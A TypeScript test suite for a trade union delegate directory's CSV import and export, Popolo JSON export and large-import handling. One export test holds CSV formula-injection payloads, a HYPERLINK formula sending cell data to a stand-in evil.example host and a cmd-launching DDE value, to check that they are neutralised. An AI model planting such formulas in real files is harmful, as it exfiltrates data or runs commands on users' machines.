import http from "http";
import fs from "fs";
import path from "path";
import { parse } from "csv-parse/sync";
import { decodeCsv } from "../src/services/delegate-csv";
import { openDirectory } from "../src/boot";
import { readerOf } from "../src/db";
import { popoloChunk, popoloText } from "../src/services/popolo";
import { textPinyin } from "../src/search/pinyin";
import { dumpDatabase } from "./helpers/db";
import { firstError, ok, startTestServer, TestServer } from "./helpers/server";
import { freshDatabase, query } from "./helpers/database";
import { syntheticDelegateList } from "./helpers/fixtures";

const ORGANISER = { authorization: "Bearer test-organiser" };
const ADMIN = { authorization: "Bearer test-admin" };
const IMPORT = `mutation ($csv: String!, $congress: ID!, $dryRun: Boolean) {
  importDelegates(csv: $csv, congress: $congress, dryRun: $dryRun) { created updated unchanged rows dryRun errors { row column message } }
}`;

let server: TestServer;
let gd15: string;

beforeAll(async () => {
  server = await startTestServer();
  gd15 = ok(await server.gql(`{ congresses { nodes { id } } }`)).congresses.nodes[0].id;
});
afterAll(() => server.close());

async function newCongress(name: string): Promise<string> {
  return ok(await server.gql(`mutation ($n: String!) { createCongress(input: { name: $n }) { id } }`, { n: name }, ORGANISER)).createCongress.id;
}

async function exportCsv(congress: string) {
  const res = await fetch(`${server.url}/export/delegates.csv?congress=${encodeURIComponent(congress)}`);
  return { res, text: Buffer.from(await res.arrayBuffer()).toString("utf8") };
}

const SAMPLE = fs.readFileSync(path.join(__dirname, "..", "seeds", "sample-delegates.csv"), "utf8");

describe("importDelegates", () => {
  test("the sample file in seeds/ dry-runs clean against the seeded congress: both delegates matched, nothing to change", async () => {
    const report = ok(await server.gql(IMPORT, { csv: SAMPLE, congress: gd15, dryRun: true }, ORGANISER)).importDelegates;
    expect(report).toEqual({ created: 0, updated: 0, unchanged: 2, rows: 2, dryRun: true, errors: [] });
  });

  test("a dry run counts what would happen and writes nothing", async () => {
    const congress = await newCongress("测试市工会第一次代表大会");
    const before = await dumpDatabase(server.ds);
    const csv =
      "name,delegation,employer,title,honours\n王宝刚,清远代表团,约克广州空调冷冻设备有限公司,制造线技师,\n新代表,清远代表团,新公司,技术员,金点子王(2020)\n";
    const report = ok(await server.gql(IMPORT, { csv, congress, dryRun: true }, ORGANISER)).importDelegates;
    expect(report).toEqual({ created: 1, updated: 1, unchanged: 0, rows: 2, dryRun: true, errors: [] });
    expect(await dumpDatabase(server.ds)).toEqual(before);
  });

  test("dryRun is `Boolean = false` as the contract has it: null, as a literal or a variable, imports as when it is left out", async () => {
    const csv = (name: string) => `name,delegation\n${name},清远代表团\n`;
    const literal = `mutation ($csv: String!, $congress: ID!) { importDelegates(csv: $csv, congress: $congress, dryRun: null) { created dryRun errors { message } } }`;
    const asLiteral = ok(await server.gql(literal, { csv: csv("测试空值甲"), congress: await newCongress("测试空值甲大会") }, ORGANISER)).importDelegates;
    expect(asLiteral).toEqual({ created: 1, dryRun: false, errors: [] });
    const asVariable = ok(
      await server.gql(IMPORT, { csv: csv("测试空值乙"), congress: await newCongress("测试空值乙大会"), dryRun: null }, ORGANISER),
    ).importDelegates;
    expect(asVariable).toMatchObject({ created: 1, dryRun: false, errors: [] });
  });

  test("an import creates new people and updates matched ones, citing each fact to its row", async () => {
    const congress = await newCongress("测试市工会第二次代表大会");
    const csv =
      "name,delegation,employer,title,honours,gender\n王宝刚,第二代表团,约克广州空调冷冻设备有限公司,制造线技师；安全员,清远市最美产业工人(2023),\n周新,第一代表团,测试新材料有限公司,技术员,,女\n";
    const report = ok(await server.gql(IMPORT, { csv, congress }, ORGANISER)).importDelegates;
    expect(report).toEqual({ created: 1, updated: 1, unchanged: 0, rows: 2, dryRun: false, errors: [] });
    const delegates = ok(
      await server.gql(
        `query ($c: ID!) { delegates(filter: { congress: $c }) { nodes { name gender employer { name kind }
      seats { congress { id } delegation source { quote document { title } } } positions { title } awards { honour { name } year source { quote } } } } }`,
        { c: congress },
      ),
    ).delegates.nodes;
    expect(delegates.map((d: any) => d.name)).toEqual(["王宝刚", "周新"]);
    const [wang, zhou] = delegates;
    expect(wang.positions.map((p: any) => p.title)).toEqual(["制造线技师", "高级班长", "指导老师", "评委", "安全员"]);
    expect(wang.awards.find((a: any) => a.year === 2023)).toEqual({
      honour: { name: "清远市最美产业工人" },
      year: 2023,
      source: { quote: "王宝刚,第二代表团,约克广州空调冷冻设备有限公司,制造线技师；安全员,清远市最美产业工人(2023)," },
    });
    const seat = wang.seats.find((s: any) => s.congress.id === congress);
    expect(seat.delegation).toBe("第二代表团");
    // a public record: what was imported and when; who did it is in the (admin-only) audit log below
    expect(seat.source.document.title).toMatch(/^Delegate list for 测试市工会第二次代表大会, imported on \d{4}-\d{2}-\d{2}$/);
    expect(seat.source.document.title).not.toContain("organiser");
    expect(zhou).toMatchObject({ gender: "FEMALE", employer: { name: "测试新材料有限公司", kind: "COMPANY" }, positions: [{ title: "技术员" }] });
    // people are matched, not duplicated
    expect(ok(await server.gql(`{ people(filter: { nameContains: "王宝刚" }) { totalCount } }`)).people.totalCount).toBe(1);
    // and the import is audited as the token that made it
    const audit = ok(await server.gql(`{ auditLog(filter: { action: "importDelegates" }, first: 100) { nodes { actor recordType } } }`, {}, ADMIN)).auditLog
      .nodes;
    expect(new Set(audit.map((e: any) => e.recordType))).toEqual(new Set(["SOURCE_DOCUMENT", "ORGANISATION", "PERSON", "SEAT", "POSITION", "AWARD"]));
    expect(audit.every((e: any) => e.actor === "env:organiser#1")).toBe(true);
  });

  test("one bad row: every error with row and column, and nothing written", async () => {
    const congress = await newCongress("测试市工会第三次代表大会");
    const before = await dumpDatabase(server.ds);
    const csv = [
      "name,delegation,employer,title,honours,gender",
      "甲,一团,甲公司,技术员,,",
      ",一团,乙公司,,,",
      "丙,一团,,组长,,",
      "丁,一团,丁公司,,不存在的荣誉；金点子王(3000),未知",
      "甲,一团,甲公司,,,",
    ].join("\n");
    const report = ok(await server.gql(IMPORT, { csv, congress }, ORGANISER)).importDelegates;
    expect(report.created + report.updated + report.unchanged).toBe(0);
    expect(report.errors).toEqual([
      { row: 3, column: "name", message: "name is required" },
      { row: 4, column: "title", message: "a title needs the employer it is held at" },
      { row: 5, column: "honours", message: expect.stringContaining("3000") },
      { row: 5, column: "gender", message: expect.stringContaining("未知") },
    ]);
    expect(await dumpDatabase(server.ds)).toEqual(before);
    // fix those rows, and the next problems (unknown honour, a repeated person) surface, still writing nothing
    const second = ok(
      await server.gql(
        IMPORT,
        { csv: csv.replace(",一团,乙公司", "乙,一团,乙公司").replace("丙,一团,,组长", "丙,一团,,").replace("(3000),未知", "(2020),女"), congress },
        ORGANISER,
      ),
    ).importDelegates;
    expect(second.errors).toEqual([
      { row: 5, column: "honours", message: 'unknown honour "不存在的荣誉"; add it first (createHonour)' },
      { row: 6, column: "name", message: "row 6 repeats row 2: both add a new person named 甲 at 甲公司" },
    ]);
    expect(await dumpDatabase(server.ds)).toEqual(before);
  });

  test.each([
    ["no name column", "delegation\n一团\n", { row: 1, column: "name" }],
    ["an unknown column", "name,age\n甲,40\n", { row: 1, column: "age" }],
    [
      "a column named twice",
      "name,delegation,delegation\n新人丑,甲团,乙团\n",
      { row: 1, column: "delegation", message: 'the header names "delegation" twice' },
    ],
    ["the name column twice", "name,name\n甲,乙\n", { row: 1, column: "name", message: 'the header names "name" twice' }],
    ["a ragged row", "name,delegation\n甲,一团,多余\n", { row: 2, column: null }],
    ["an empty file", "", { row: 1, column: null }],
  ])("%s is reported, nothing written", async (_label, csv, where) => {
    const before = await dumpDatabase(server.ds);
    const report = ok(await server.gql(IMPORT, { csv, congress: gd15 }, ORGANISER)).importDelegates;
    expect(report.errors[0]).toMatchObject(where);
    expect(await dumpDatabase(server.ds)).toEqual(before);
  });

  test("an award or a title listed twice in one cell is added once, as awards and positions are added where missing", async () => {
    const congress = await newCongress("测试重复大会");
    const csv = "name,employer,title,honours\n测试重复甲,测试重复公司,技师；技师,金点子王；金点子王(2019)；金点子王\n";
    expect(ok(await server.gql(IMPORT, { csv, congress }, ORGANISER)).importDelegates).toMatchObject({ created: 1, errors: [] });
    const [person] = ok(
      await server.gql(`query ($c: ID!) { delegates(filter: { congress: $c }) { nodes { positions { title } awards { honour { name } year } } } }`, {
        c: congress,
      }),
    ).delegates.nodes;
    expect(person.positions).toEqual([{ title: "技师" }]);
    expect(person.awards).toEqual([
      { honour: { name: "金点子王" }, year: null },
      { honour: { name: "金点子王" }, year: 2019 },
    ]);
  });

  test("a fact an import changes cites the row that changed it: a seat's delegation, a person's gender", async () => {
    const congress = await newCongress("测试改引大会");
    const rows = ["测试改引甲,一团,", "测试改引甲,二团,", "测试改引甲,二团,女"];
    const sources = [];
    for (const row of rows) {
      expect(ok(await server.gql(IMPORT, { csv: `name,delegation,gender\n${row}\n`, congress }, ORGANISER)).importDelegates.errors).toEqual([]);
      const [person] = ok(
        await server.gql(
          `query ($c: ID!) { delegates(filter: { congress: $c }) { nodes { gender seats { delegation source { quote } } sources { quote } } } }`,
          { c: congress },
        ),
      ).delegates.nodes;
      sources.push(person.sources.map((s: any) => s.quote).sort());
      if (row === rows[1]) expect(person.seats).toEqual([{ delegation: "二团", source: { quote: rows[1] } }]);
      if (row === rows[2]) expect(person.gender).toBe("FEMALE");
    }
    // The seat moved to the second row: the first still stands among the person's sources.
    expect(sources[1]).toEqual([rows[0], rows[1]]);
    // The third row changed the gender alone: it is a source of the person's now.
    expect(sources[2]).toEqual(rows);
  });

  test("a row after a blank line cites itself, not the blank line", async () => {
    const congress = await newCongress("测试空行大会");
    const report = ok(await server.gql(IMPORT, { csv: "name,delegation\n测试空行甲,一团\n\n测试空行乙,二团\n", congress }, ORGANISER)).importDelegates;
    expect(report).toMatchObject({ created: 2, errors: [] });
    const seats = ok(
      await server.gql(`query ($c: ID!) { delegates(filter: { congress: $c }) { nodes { name seats { source { quote } } } } }`, { c: congress }),
    ).delegates.nodes.map((p: any) => [p.name, p.seats[0].source.quote]);
    expect(seats).toEqual([
      ["测试空行甲", "测试空行甲,一团"],
      ["测试空行乙", "测试空行乙,二团"],
    ]);
  });

  test("the same name twice among the directory's people needs the id column", async () => {
    const congress = await newCongress("测试市工会第四次代表大会");
    for (const _ of [1, 2]) await server.gql(`mutation { createPerson(input: { name: "同名人" }) { id } }`, {}, ORGANISER);
    const report = ok(await server.gql(IMPORT, { csv: "name\n同名人\n", congress }, ORGANISER)).importDelegates;
    expect(report.errors).toEqual([{ row: 2, column: "name", message: "2 people are named 同名人; add the id column to say which" }]);
  });

  test("imports need an organiser or admin token, and a real congress", async () => {
    expect(firstError(await server.gql(IMPORT, { csv: SAMPLE, congress: gd15 })).extensions).toEqual({ code: "UNAUTHENTICATED" });
    expect(firstError(await server.gql(IMPORT, { csv: SAMPLE, congress: Buffer.from("Congress:999").toString("base64") }, ORGANISER)).extensions).toEqual({
      code: "BAD_USER_INPUT",
      field: "congress",
    });
  });
});

describe("rows that repeat or share a name", () => {
  test("two identical new rows: dry run and real run both answer one row error naming both rows, and nothing is written", async () => {
    const congress = await newCongress("测试市工会第九次代表大会");
    const csv = "name,delegation,employer\n重复新人,一团,重复测试公司\n重复新人,一团,重复测试公司\n";
    const before = await dumpDatabase(server.ds);
    for (const dryRun of [true, false]) {
      const report = ok(await server.gql(IMPORT, { csv, congress, dryRun }, ORGANISER)).importDelegates;
      expect(report).toEqual({
        created: 0,
        updated: 0,
        unchanged: 0,
        rows: 2,
        dryRun,
        errors: [{ row: 3, column: "name", message: "row 3 repeats row 2: both add a new person named 重复新人 at 重复测试公司" }],
      });
    }
    expect(await dumpDatabase(server.ds)).toEqual(before);
  });

  test("the same new name at two employers is two people, and the file imports again unchanged", async () => {
    const congress = await newCongress("测试市工会第十次代表大会");
    const csv = "name,delegation,employer\n同名新人,一团,甲测试公司\n同名新人,二团,乙测试公司\n";
    expect(ok(await server.gql(IMPORT, { csv, congress, dryRun: true }, ORGANISER)).importDelegates).toMatchObject({ created: 2, errors: [] });
    expect(ok(await server.gql(IMPORT, { csv, congress }, ORGANISER)).importDelegates).toMatchObject({ created: 2, errors: [] });
    const delegates = ok(
      await server.gql(`query ($c: ID!) { delegates(filter: { congress: $c }) { nodes { name employer { name } seats { delegation } } } }`, { c: congress }),
    ).delegates.nodes;
    expect(delegates.map((d: any) => [d.name, d.employer.name, d.seats[0].delegation]).sort()).toEqual([
      ["同名新人", "乙测试公司", "二团"],
      ["同名新人", "甲测试公司", "一团"],
    ]);
    // each row finds its own namesake by the employer: the same file again changes nothing
    const before = await dumpDatabase(server.ds);
    expect(ok(await server.gql(IMPORT, { csv, congress }, ORGANISER)).importDelegates).toEqual({
      created: 0,
      updated: 0,
      unchanged: 2,
      rows: 2,
      dryRun: false,
      errors: [],
    });
    expect(await dumpDatabase(server.ds)).toEqual(before);
    // a row naming neither employer cannot say which of the two it is
    const third = ok(await server.gql(IMPORT, { csv: "name,employer\n同名新人,\n", congress }, ORGANISER)).importDelegates;
    expect(third.errors).toEqual([{ row: 2, column: "name", message: "2 people are named 同名新人; add the id column to say which" }]);
  });

  test("the same new name with and without an employer cannot be told apart: a row error, nothing written", async () => {
    const congress = await newCongress("测试市工会第十一次代表大会");
    const before = await dumpDatabase(server.ds);
    const report = ok(await server.gql(IMPORT, { csv: "name,employer\n另一新人,甲测试公司\n另一新人,\n", congress }, ORGANISER)).importDelegates;
    expect(report.errors).toEqual([
      { row: 3, column: "employer", message: "row 3 and row 2 both add a new person named 另一新人; give each its employer to tell them apart" },
    ]);
    expect(await dumpDatabase(server.ds)).toEqual(before);
  });
});

describe("clean text in cells", () => {
  test("invisible characters are taken out of names, so 王\\u200b宝\\u200d刚 is 王宝刚", async () => {
    const csv = "name,employer\n王\u200b宝\u200d刚\u202c,约克广州空调冷冻\u200b设备有限公司\n";
    expect(ok(await server.gql(IMPORT, { csv, congress: gd15, dryRun: true }, ORGANISER)).importDelegates).toEqual({
      created: 0,
      updated: 0,
      unchanged: 1,
      rows: 1,
      dryRun: true,
      errors: [],
    });
  });

  test("a control character, a lone surrogate or a name of nothing visible is a row error naming the column, nothing written", async () => {
    const congress = await newCongress("测试市工会第十二次代表大会");
    const before = await dumpDatabase(server.ds);
    const csv =
      "name,delegation,employer,title\n李\u0000四,一团,,\n\u200b\u200d,一团,,\n张三,一团\u0007,,\n赵六,一团,甲公司\ud800,\n钱七,一团,甲公司,技师；\u2060\n";
    const report = ok(await server.gql(IMPORT, { csv, congress }, ORGANISER)).importDelegates;
    expect(report.errors).toEqual([
      { row: 2, column: "name", message: "name contains the control character U+0000" },
      { row: 3, column: "name", message: "name has no letter or digit once invisible characters are taken out" },
      { row: 4, column: "delegation", message: "delegation contains the control character U+0007" },
      // the CSV reader would turn it into U+FFFD, so it is found on its line before the cells are read
      { row: 5, column: null, message: "line 5 contains a lone surrogate U+D800, which is not text" },
      { row: 6, column: "title", message: "title has no letter or digit once invisible characters are taken out" },
    ]);
    expect(await dumpDatabase(server.ds)).toEqual(before);
  });

  test("a lone surrogate is reported on its row, not its line, when a quoted cell or a blank line comes before it", async () => {
    const congress = await newCongress("测试市工会第十五次代表大会");
    const csv = 'name,delegation\n甲,"一\n团"\n\n乙\ud800,一团\n丙,一团\u0007\n';
    const report = ok(await server.gql(IMPORT, { csv, congress, dryRun: true }, ORGANISER)).importDelegates;
    expect(report.errors).toEqual([
      { row: 3, column: null, message: "line 5 contains a lone surrogate U+D800, which is not text" },
      { row: 4, column: "delegation", message: "delegation contains the control character U+0007" },
    ]);
  });
});

describe("encodings", () => {
  test("GBK (GB18030) from a spreadsheet, UTF-8 with and without BOM all decode to the same text", () => {
    const gbk = fs.readFileSync(path.join(__dirname, "fixtures", "delegates-gbk.csv"));
    const text = decodeCsv(gbk);
    expect(text).toContain("李明,清远代表团,清远市测试电子有限公司,装配技师,广东省五一劳动奖章(2021),男");
    expect(decodeCsv(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(text, "utf8")]))).toBe(text);
    expect(decodeCsv(Buffer.from(text, "utf8"))).toBe(text);
  });

  test("a GBK file imports", async () => {
    const congress = await newCongress("测试市工会第五次代表大会");
    const csv = decodeCsv(fs.readFileSync(path.join(__dirname, "fixtures", "delegates-gbk.csv")));
    const report = ok(await server.gql(IMPORT, { csv, congress }, ORGANISER)).importDelegates;
    expect(report).toMatchObject({ created: 2, errors: [] });
    const names = ok(await server.gql(`query ($c: ID!) { delegates(filter: { congress: $c }) { nodes { name gender positions { title } } } }`, { c: congress }))
      .delegates.nodes;
    expect(names).toEqual([
      { name: "陈芳", gender: "FEMALE", positions: [{ title: "工会主席" }, { title: "质检组长" }] },
      { name: "李明", gender: "MALE", positions: [{ title: "装配技师" }] },
    ]);
  });
});

describe("export", () => {
  test("GET /export/delegates.csv: UTF-8 with a BOM, the import's columns, one row per delegate", async () => {
    const res = await fetch(`${server.url}/export/delegates.csv?congress=${encodeURIComponent(gd15)}`);
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(res.headers.get("content-disposition")).toMatch(/attachment/);
    const bytes = Buffer.from(await res.arrayBuffer());
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows: Record<string, string>[] = parse(bytes.subarray(3).toString("utf8"), { columns: true });
    expect(Object.keys(rows[0])).toEqual(["name", "delegation", "employer", "title", "honours", "gender", "photo_url", "id"]);
    const wang = rows.find((r) => r.name === "王宝刚")!;
    expect(wang).toMatchObject({ employer: "约克广州空调冷冻设备有限公司", title: expect.stringContaining("制造线技师；高级班长"), gender: "MALE" });
    expect(wang.honours).toContain("清远市QCC大赛(2017)");
  });

  test("GET /export/delegates.csv carries an ETag: fetched again unchanged, 304; once the list changed, the new list", async () => {
    const congress = await newCongress("测试市工会第七次代表大会");
    const url = `${server.url}/export/delegates.csv?congress=${encodeURIComponent(congress)}`;
    const etag = (await exportCsv(congress)).res.headers.get("etag");
    expect(etag).toMatch(/^W\/"/);
    // node:http, not fetch: fetch adds Cache-Control: no-cache to a conditional request
    const conditional = () =>
      new Promise<number | undefined>((resolve, reject) =>
        http.get(url, { headers: { "if-none-match": etag! } }, (r) => resolve(r.resume().statusCode)).on("error", reject),
      );
    expect(await conditional()).toBe(304);
    expect(ok(await server.gql(IMPORT, { csv: "name,delegation\n林测试,第一代表团\n", congress }, ORGANISER)).importDelegates.created).toBe(1);
    expect(await conditional()).toBe(200);
  });

  test("export → import changes nothing", async () => {
    for (const congress of [gd15, await newCongress("测试市工会第六次代表大会")]) {
      const { text } = await exportCsv(congress);
      const before = await dumpDatabase(server.ds);
      const report = ok(await server.gql(IMPORT, { csv: text, congress }, ORGANISER)).importDelegates;
      expect(report.errors).toEqual([]);
      expect(report.created + report.updated).toBe(0);
      expect(report.unchanged).toBe(report.rows);
      expect(await dumpDatabase(server.ds)).toEqual(before);
    }
  });

  test("cells a spreadsheet would run as a formula get a leading ', every cell is quoted, and export → import changes nothing", async () => {
    const congress = await newCongress("测试市工会第十三次代表大会");
    const gql = async (query: string, variables: Record<string, unknown>) => Object.values(ok(await server.gql(query, variables, ORGANISER)))[0] as any;
    const calc = await gql(`mutation ($n: String!) { createOrganisation(input: { name: $n, kind: COMPANY }) { id } }`, { n: "+cmd|' /C calc'!A0" });
    const people = [
      { name: '=HYPERLINK("http://evil.example/?d="&A1,"点我")', employer: calc.id, delegation: "@SUM(1+1)", title: "-2+3" },
      { name: "'=1+1", delegation: "一团;=1+1" },
      { name: "'t Hooft" },
    ];
    for (const p of people) {
      const person = await gql(`mutation ($n: String!, $e: ID) { createPerson(input: { name: $n, employer: $e }) { id } }`, {
        n: p.name,
        e: p.employer ?? null,
      });
      await gql(`mutation ($p: ID!, $c: ID!, $d: String) { addSeat(input: { person: $p, congress: $c, delegation: $d }) { id } }`, {
        p: person.id,
        c: congress,
        d: p.delegation ?? null,
      });
      if (p.title)
        await gql(`mutation ($p: ID!, $o: ID!, $t: String!) { addPosition(input: { person: $p, organisation: $o, title: $t }) { id } }`, {
          p: person.id,
          o: p.employer,
          t: p.title,
        });
    }
    const { text } = await exportCsv(congress);
    const rows: Record<string, string>[] = parse(text.replace(/^\uFEFF/, ""), { columns: true });
    const byName = (prefix: string) => rows.find((r) => r.name.startsWith(prefix))!;
    expect(byName("'=H")).toMatchObject({ name: `'${people[0].name}`, employer: "'+cmd|' /C calc'!A0", delegation: "'@SUM(1+1)", title: "'-2+3" });
    // data that itself starts with ' gets one more, so the import can tell the two apart
    expect(byName("''=")).toMatchObject({ name: "''=1+1", delegation: "一团;=1+1" });
    expect(byName("''t")).toMatchObject({ name: "''t Hooft" });
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    // quoted, so a spreadsheet that splits on ; (as many locales do) cannot start a cell at "=1+1"
    expect(text).toContain('"一团;=1+1"');

    const before = await dumpDatabase(server.ds);
    const report = ok(await server.gql(IMPORT, { csv: text, congress }, ORGANISER)).importDelegates;
    expect(report).toEqual({ created: 0, updated: 0, unchanged: 3, rows: 3, dryRun: false, errors: [] });
    expect(await dumpDatabase(server.ds)).toEqual(before);
  });

  test("the import takes away exactly the export's ': one in front of = + - @ tab, carriage return or ', nothing else", async () => {
    const congress = await newCongress("测试市工会第十四次代表大会");
    const csv = "name,employer\n'@某人,'+某测试公司\n'甲某,\n";
    expect(ok(await server.gql(IMPORT, { csv, congress }, ORGANISER)).importDelegates).toMatchObject({ created: 2, errors: [] });
    const names = ok(await server.gql(`query ($c: ID!) { delegates(filter: { congress: $c }) { nodes { name employer { name } } } }`, { c: congress }))
      .delegates.nodes;
    expect(names).toEqual(
      expect.arrayContaining([
        { name: "@某人", employer: { name: "+某测试公司" } },
        { name: "'甲某", employer: null },
      ]),
    );
  });

  test("bad or unknown congress", async () => {
    expect((await exportCsv("nope")).res.status).toBe(400);
    expect((await exportCsv(Buffer.from("Congress:999").toString("base64"))).res.status).toBe(404);
  });

  test("GET /export/popolo.json: persons, organizations (congresses too) and memberships", async () => {
    const res = await fetch(`${server.url}/export/popolo.json`);
    expect(res.status).toBe(200);
    const popolo = await res.json();
    const wan = popolo.persons.find((p: any) => p.name === "万雅丽");
    expect(wan).toMatchObject({ gender: "female", other_names: [{ name: "Wan Yali", note: "pinyin" }] });
    const congress = popolo.organizations.find((o: any) => o.id === gd15);
    expect(congress).toMatchObject({ classification: "congress", name: "广东省工会第十五次代表大会" });
    // Organisations and congresses carry their pinyin as people do, beside a congress's English name.
    expect(congress.other_names).toEqual([
      { name: textPinyin("广东省工会第十五次代表大会"), note: "pinyin" },
      { name: "15th Guangdong Provincial Trade Union Congress", note: "English" },
    ]);
    const union = popolo.organizations.find((o: any) => o.name === "清远英德海螺国际大酒店有限公司工会");
    expect(union.other_names).toEqual([{ name: textPinyin("清远英德海螺国际大酒店有限公司工会"), note: "pinyin" }]);
    expect(popolo.organizations.find((o: any) => o.id === union.parent_id).name).toBe("清远英德海螺国际大酒店有限公司");
    const memberships = popolo.memberships.filter((m: any) => m.person_id === wan.id);
    expect(memberships).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ organization_id: gd15, role: "delegate" }),
        expect.objectContaining({ organization_id: union.id, role: "工会主席" }),
      ]),
    );
  });
});

test("the Popolo export is the same read in small chunks: every row once, in id order", async () => {
  const text = async (chunk?: number) => {
    let out = "";
    for await (const part of await popoloText((list, section, after) => popoloChunk(readerOf(server.ds), list, section, after, chunk))) out += part;
    return out;
  };
  const whole = await text();
  expect(await text(2)).toBe(whole);
  const popolo = JSON.parse(whole);
  const count = async (table: string) => Number((await server.ds.query(`SELECT COUNT(*) AS n FROM "${table}"`))[0].n);
  expect(popolo.persons).toHaveLength(await count("person"));
  expect(popolo.organizations).toHaveLength((await count("organisation")) + (await count("congress")));
  expect(popolo.memberships).toHaveLength((await count("position")) + (await count("seat")));
  const ids = [...popolo.persons, ...popolo.organizations, ...popolo.memberships].map((x: { id: string }) => x.id);
  expect(new Set(ids).size).toBe(ids.length);
  const keys = popolo.persons.map((p: { id: string }) => Number(Buffer.from(p.id, "base64").toString().split(":")[1]));
  expect(keys).toEqual([...keys].sort((a, b) => a - b));
});

test("a congress with no pinyin yet (added by an older server beside a new one) goes out without an empty other name", async () => {
  const [congress] = await server.ds.query(`SELECT "id", "namePinyin" FROM "congress" ORDER BY "id" LIMIT 1`);
  const exported = async () => {
    const { text } = await popoloChunk(readerOf(server.ds), 1, 1, congress.id - 1, 1);
    return JSON.parse(text).other_names;
  };
  expect(await exported()).toContainEqual({ name: congress.namePinyin, note: "pinyin" });
  await query(server.ds, `UPDATE "congress" SET "namePinyin" = '' WHERE "id" = ?`, [congress.id]);
  try {
    expect(await exported()).toEqual([{ name: "15th Guangdong Provincial Trade Union Congress", note: "English" }]);
  } finally {
    await query(server.ds, `UPDATE "congress" SET "namePinyin" = ? WHERE "id" = ?`, [congress.namePinyin, congress.id]);
  }
});

test("a Popolo export whose first read fails gives no text (the route can still answer an error)", async () => {
  const { ds: closed } = await openDirectory(await freshDatabase());
  await closed.destroy();
  await expect(popoloText((list, section, after) => popoloChunk(readerOf(closed), list, section, after))).rejects.toThrow();
});

describe("scale", () => {
  // The limit only stops a hung import: the time is printed, not asserted (speed belongs in the
  // benchmark). On PostgreSQL this import took 110-131 s on this 2-core machine in a slow hour, and
  // 22.6 s in a fast one once the writer planned its statements for the tables as they grow
  // (bench/README.md, "An import's lookups planned for the tables as they grow").
  test("10,000 rows import in one transaction", async () => {
    const congress = await newCongress("测试省工会万人代表大会");
    const { ds } = server;
    const t0 = Date.now();
    const report = ok(await server.gql(IMPORT, { csv: syntheticDelegateList(10_000), congress }, ORGANISER)).importDelegates;
    expect(report).toMatchObject({ created: 10_000, errors: [] });
    expect(ok(await server.gql(`query ($c: ID!) { delegates(filter: { congress: $c }) { totalCount } }`, { c: congress })).delegates.totalCount).toBe(10_000);
    expect(Number((await ds.query(`SELECT COUNT(*) AS n FROM source_document WHERE title LIKE 'Delegate list for 测试省工会万人代表大会%'`))[0].n)).toBe(1);
    console.log(`10,000-row import took ${Date.now() - t0} ms`);
  }, 600_000);
});
